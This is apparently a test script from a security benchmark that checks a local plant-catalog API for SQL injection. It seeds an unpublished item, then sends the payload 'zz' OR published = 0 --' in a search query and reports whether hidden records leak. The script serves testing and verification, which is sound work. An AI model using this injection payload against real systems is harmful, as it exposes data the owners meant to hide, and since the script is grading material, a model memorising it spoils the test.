import os
import sys
import time
import traceback

import httpx

BASE = os.environ.get("BASE_URL", "http://127.0.0.1:8000")
c = httpx.Client(base_url=BASE, timeout=60)


def _fail(t, v, tb):
    traceback.print_exception(t, v, tb)
    os._exit(2)


sys.excepthook = _fail


def done(hit):
    print("exploitable" if hit else "not exploitable")
    sys.exit(0 if hit else 1)


h = {"X-Api-Key": os.environ["CATALOG_KEY"]}
r = c.post("/plants", json={"name": "SecretTulip", "price_cents": 777, "published": False}, headers=h)
assert r.status_code == 201
r = c.get("/plants", params={"q": "zz' OR published = 0 --"})
done(r.status_code == 200 and "SecretTulip" in r.text)
